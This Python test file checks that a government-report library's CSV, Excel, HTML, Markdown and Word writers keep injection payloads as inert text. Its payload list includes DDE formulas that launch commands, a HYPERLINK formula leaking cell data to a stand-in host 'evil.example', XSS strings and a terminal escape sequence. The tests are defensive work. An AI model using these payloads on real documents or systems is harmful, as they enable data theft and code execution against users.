"""Nothing we write executes: formula, DDE, markup and heading payloads (OWASP's lists) stay text in every writer."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

import govinfo_report as gr
from govinfo_report import io as gio
from govinfo_report.cli import escape_controls, run
from tests.conftest import EXAMPLES

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "=1+1\n=2+2",
    "<script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "<img src=x onerror=alert(1)>",
    '{ HYPERLINK "http://evil.example" }',
    "X\n## 一、总体情况\n正文",
    "[x](javascript:alert(1))",
)
_DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
_SAMPLE = gio.read(EXAMPLES / "sample-2021" / "report.json")
_CELL = _SAMPLE.spec.cells[0].pointer


def _with(payload: str) -> gr.AnnualReport:
    return attrs.evolve(
        _SAMPLE.with_values({_CELL: None}),
        meta=attrs.evolve(_SAMPLE.meta, agency=payload, region=payload),
        general_situation=payload,
        raw={_CELL: payload},
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_never_starts_a_field_with_a_formula(payload: str) -> None:
    """Every CSV field that would start with = + - @ TAB CR is escaped, and reads back as the payload."""
    report = _with(payload)
    text = gio.dumps(report, "csv").decode("utf-8")
    for row in csv.reader(io.StringIO(text)):
        for field in row:
            assert not field.startswith(_DANGEROUS), field
    back = gio.loads(text.encode(), "csv")
    assert payload == back.meta.agency
    assert payload == back.general_situation
    assert payload == back.raw[_CELL]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_holds_payloads_as_text(payload: str) -> None:
    """No payload becomes a formula (no <f> holding it) or a DDE link in the workbook; it reads back as written."""
    data = gio.dumps(_with(payload), "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        names = z.namelist()
        xml = "".join(z.read(n).decode("utf-8") for n in names if n.endswith(".xml"))
    assert not any("externalLink" in n for n in names)
    formulas = re.findall(r"<f>([^<]*)</f>", xml)
    assert formulas  # our totals and checks
    assert not [f for f in formulas if re.search(r"cmd|HYPERLINK|DDE|alert|SUM\(1\+1\)", f)]
    back = gio.loads(data, "xlsx")
    assert payload.strip() == (back.meta.agency or "")
    assert payload == back.general_situation


@pytest.mark.parametrize("payload", PAYLOADS)
def test_html_and_markdown_hold_payloads_as_text(payload: str) -> None:
    """HTML output has no script, no event handler and no javascript: link; Markdown no heading from a value."""
    html = gio.dumps(_with(payload), "html")
    tree = etree.fromstring(html, etree.HTMLParser())
    assert not tree.xpath("//script")
    assert not tree.xpath("//@*[starts-with(name(), 'on')]")
    assert not tree.xpath("//@href[contains(., 'javascript')]")
    md = gio.dumps(_with(payload), "markdown").decode("utf-8")
    headings = [line for line in md.splitlines() if line.startswith("#")]
    assert len(headings) == 1 + len(_SAMPLE.spec.sections), headings
    assert "<script" not in md


@pytest.mark.parametrize("payload", PAYLOADS)
def test_docx_has_no_fields(payload: str) -> None:
    """The Word document holds no field (no HYPERLINK or DDE code) whatever the text."""
    data = gio.dumps(_with(payload), "docx")
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = z.read("word/document.xml").decode("utf-8")
    assert "instrText" not in xml
    assert "fldSimple" not in xml
    assert "fldChar" not in xml


@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=40))
def test_escape_controls_leaves_no_control_character(text: str) -> None:
    """Escaped text has no C0/C1 control or bidi override left, and plain text is unchanged."""
    shown = escape_controls(text)
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", shown)
    if not re.search(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", text):
        assert text == shown


def test_cli_shows_control_characters_escaped(tmp_path: Path) -> None:
    """An agency name holding ESC [2K and CR is shown with escapes, never raw (it would rewrite the terminal line)."""
    report = attrs.evolve(_SAMPLE, meta=attrs.evolve(_SAMPLE.meta, agency="\x1b[2K\rowned"))
    path = tmp_path / "x.json"
    gio.write(report, path)
    out, err = io.StringIO(), io.StringIO()
    run(["validate", str(path)], stdout=out, stderr=err)
    shown = out.getvalue() + err.getvalue()
    assert "\x1b" not in shown
    assert "\r" not in shown
    assert "\\x1b[2K\\rowned" in shown
